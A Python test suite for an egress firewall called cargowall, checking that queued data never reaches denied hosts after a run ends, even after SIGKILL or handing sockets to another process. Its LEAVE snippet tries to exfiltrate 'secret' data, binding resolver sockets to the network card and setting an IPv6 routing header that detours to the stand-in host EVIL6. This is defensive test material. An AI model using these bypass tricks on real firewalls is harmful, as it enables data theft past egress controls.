# SPDX-License-Identifier: Apache-2.0
"""What the kernel still sends for a run that has ended: data for allowed destinations, and nothing else."""

import contextlib
import datetime
import os
import pathlib
import platform
import re
import signal
import socket
import subprocess
import sys
import time

from harness import Skip, case, contains, equal, found, worked
from lab import die_with_parent, wait_until
from plan import EVIL6, GITHUB4, GITHUB6

PORT = 9009
ALLOW = ["--allow-cidr", f"{GITHUB4}:{PORT}", "--allow-cidr", f"[{GITHUB6}]:7", "--summary", "none"]
WATCH_SECONDS = 10  # TCP would send again within this time
GRACE_SECONDS = 5  # without progress; documented in cargowall(1)

# Connections that were allowed, and then send elsewhere: what they queue is dropped by the packet hook. A connection to
# the resolver is redirected to the proxy on loopback, and then bound to the network card. A routing header
# leads to a host that is denied.
LEAVE = """
        kept = []
        for resolver in RESOLVER4, RESOLVER6:
            s = new_socket(resolver, socket.SOCK_STREAM)
            s.connect((resolver, 53))
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
            report(**{resolver: attempt(s.send, b"secret " * 100)})
            kept.append(s)
        s = new_socket(GITHUB6, socket.SOCK_STREAM)
        s.connect((GITHUB6, 7))
        way = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (GITHUB6, EVIL6))
        report(detour=attempt(s.setsockopt, socket.IPPROTO_IPV6, 57, bytes([0, 4, 4, 1, 1, 0, 0, 0]) + way))
        report(send=attempt(s.send, b"secret " * 100))
        kept.append(s)
"""
# More than fits there, for an allowed peer that reads slowly or never.
FILL = """
        s = new_socket(GITHUB4, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 400000)
        s.connect((GITHUB4, 9009))
        s.settimeout(0)
        n = 0
        try:
            while n < 200000:
                n += s.send(b"x" * 1000)
        except BlockingIOError:
            pass
        report(queued=n)
"""
PEER = """
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
s.bind((sys.argv[1], 9009))
s.listen()
print("ready", flush=True)
c, n = s.accept()[0], 0
if sys.argv[2] == "never":
    sys.stdin.readline()
try:
    while data := c.recv(2000):
        n += len(data)
        if sys.argv[2] == "slow":
            time.sleep(0.06)
except OSError as e:
    print("after", n, e.strerror, flush=True)
else:
    print("all", n, flush=True)
"""


@contextlib.contextmanager
def peer(lab, how):
    process = subprocess.Popen(lab.in_internet("/usr/bin/python3", "-c", PEER, GITHUB4, how), stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, text=True, preexec_fn=die_with_parent)
    try:
        equal(process.stdout.readline(), "ready\n", "the peer's first line")
        yield process
    finally:
        process.kill()
        process.communicate()


def guards(lab):
    """The processes that hold the hooks of a run in the lab."""
    found, network = set(), os.readlink(f"/proc/{lab.client}/ns/net")
    for entry in pathlib.Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdigit() and (entry / "comm").read_text() == "cargowall-guard\n" and \
                    os.readlink(entry / "ns" / "net") == network:
                found.add(int(entry.name))
    return found


def kernel_ends_orphans():
    return tuple(int(n) for n in re.match(r"(\d+)\.(\d+)", platform.release()).groups()) >= (6, 12)


def seconds_after_connect(r):
    """From the first allowed connection to the end of the run, however long the start took."""
    first, last = (datetime.datetime.fromisoformat(found(r, kind)["timestamp"].replace("Z", "+00:00"))
                   for kind in ("connection_allowed", "run_ended"))
    return (last - first).total_seconds()


def nothing_leaves(lab):
    """Not now, and not when TCP tries again."""
    time.sleep(WATCH_SECONDS)
    wrong = {addr for addr in lab.destinations() if addr.startswith("127.") or addr in ("::1", EVIL6)}
    equal(wrong, set(), "destinations of packets that were to be dropped")


def wait_up(running):
    for line in iter(running.read_line, b""):
        if line == b"up\n":
            return
    raise AssertionError(f"the command ended early: {running.finish()}")


@case("data queued for a denied destination does not leave after the end of the run")
def end(lab):
    r = lab.attack(ALLOW, LEAVE)
    equal(r.events[-1]["event_type"], "run_ended", "last event")
    assert "value" in r.facts["198.51.100.53"], f"nothing was queued: {r.facts}"
    nothing_leaves(lab)


@case("nor after SIGKILL of cargowall, when only the guard holds the hooks")
def end_by_kill(lab):
    running = lab.start(ALLOW, lab.python(LEAVE + """
        print("up", flush=True)
        time.sleep(1000)
    """))
    wait_up(running)
    running.signal(signal.SIGKILL)
    equal(running.finish().status, -signal.SIGKILL, "status")
    nothing_leaves(lab)
    equal(lab.leftover_cgroups(running.pid), [], "cgroups left behind")


@case("nor if a process outside was given the socket")
def end_elsewhere(lab):
    path = lab.dir / "work" / "hand-over"
    path.unlink(missing_ok=True)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        path.chmod(0o777)
        listener.listen()
        running = lab.start(ALLOW, lab.python(LEAVE + f"""
        with socket.socket(socket.AF_UNIX) as to:
            to.connect("{path}")
            socket.send_fds(to, [b"x"], [s.fileno() for s in kept])
        """))
        with listener.accept()[0] as s:
            fds = socket.recv_fds(s, 1, 8)[1]
        r = running.finish()
    equal((r.status, len(fds)), (0, 3), "status, descriptors")
    nothing_leaves(lab)
    for fd in fds:
        with socket.socket(fileno=fd) as s:
            assert s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR), "still connected"


@case("data for an allowed destination that reads slowly is delivered after the end of COMMAND")
def slow_peer(lab):
    with peer(lab, "slow") as p:
        r = lab.attack(ALLOW, FILL, seconds=60)
        worked(r)
        equal(p.stdout.readline(), f"all {r.facts['queued']}\n", "what the peer got")
    equal(r.err, "", "stderr")
    seconds = seconds_after_connect(r)
    assert seconds > GRACE_SECONDS, f"only {seconds} s: the test has to last longer than the time without progress"


@case("a peer that never reads: the run ends soon, and so does the connection")
def silent_peer(lab):
    with peer(lab, "never") as p:
        before = guards(lab)
        r = lab.attack(ALLOW, FILL, seconds=60)
        worked(r)
        assert seconds_after_connect(r) > GRACE_SECONDS - 1, f"{seconds_after_connect(r)} s"
        contains(r.err, "connections of COMMAND whose data", "stderr")
        if not kernel_ends_orphans():
            assert guards(lab) - before, "nobody holds the hooks"
        p.stdin.write("read\n")
        p.stdin.flush()
        got = p.stdout.readline().split()
    if kernel_ends_orphans():
        equal(got[0], "after", "how it ended for the peer")
    wait_until(lambda: not guards(lab) - before, "the guard to end")


@case("SIGTERM to the guard, as when its unit stops: connections end at once, and nothing leaves")
def stop(lab):
    if not kernel_ends_orphans():
        raise Skip("this kernel cannot end connections without a process")
    with peer(lab, "slow") as p:
        before = guards(lab)
        running = lab.start(ALLOW, lab.python(LEAVE + FILL + """
        print("up", flush=True)
        time.sleep(1000)
        """))
        wait_up(running)
        guard, = guards(lab) - before
        os.kill(guard, signal.SIGTERM)  # nothing, as long as cargowall lives
        equal(guards(lab) - before, {guard}, "guards after SIGTERM")
        running.signal(signal.SIGKILL)
        running.finish()
        got = p.stdout.readline().split()
        equal(got[0], "after", "how it ended for the peer")
    wait_until(lambda: not guards(lab) - before, "the guard to end")
    nothing_leaves(lab)


@case("in audit mode the data of COMMAND stays with the kernel, as without the firewall")
def silent_peer_audit(lab):
    with peer(lab, "never") as p:
        r = lab.attack([*ALLOW, "--mode", "audit"], FILL)
        worked(r)
        assert seconds_after_connect(r) < GRACE_SECONDS - 1, f"{seconds_after_connect(r)} s"
        equal(r.err, "", "stderr")
        p.stdin.write("read\n")
        p.stdin.flush()
        equal(p.stdout.readline(), f"all {r.facts['queued']}\n", "what the peer got")


FAR = """
import os, socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
s.bind(("127.0.0.1", 9009))
s.listen()
print("ready", flush=True)
sys.stdin.readline()
"""


@case("a connection in another network namespace: the guard holds the hooks until it has ended")
def other_namespace(lab):
    far = subprocess.Popen(["unshare", "--net", "sh", "-c", 'ip link set lo up; exec "$@"', "sh", sys.executable, "-c", FAR],
                           stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, preexec_fn=die_with_parent)
    link = lab.dir / "far"
    try:
        equal(far.stdout.readline(), "ready\n", "first line")
        before = guards(lab)
        link.touch()
        equal(lab.plain("mount", "--bind", f"/proc/{far.pid}/ns/net", link).status, 0, "mount")
        r = lab.run(ALLOW, ["nsenter", f"--net={link}", *lab.python(FILL.replace("GITHUB4", "'127.0.0.1'"))], user="root")
        worked(r)
        assert r.facts["queued"] > 0, r.facts
        equal(lab.leftover_cgroups(r.pid), [], "cgroups left behind")
        mine = guards(lab) - before
        equal(len(mine), 1, "guards")
        time.sleep(1)
        equal(guards(lab) - before, mine, "guards after a second")
    finally:
        far.kill()
        far.communicate()
        lab.plain("umount", link)
    wait_until(lambda: not guards(lab) & mine, "the guard to end")


@case("nothing of a run is left when its connections have ended")
def nothing_left(lab):
    before = guards(lab)
    r = lab.attack(ALLOW, "report(reached=attempt(tcp, GITHUB6, 7))")
    worked(r, "reached")
    equal(guards(lab) - before, set(), "guards")
    assert seconds_after_connect(r) < GRACE_SECONDS - 1, f"{seconds_after_connect(r)} s"
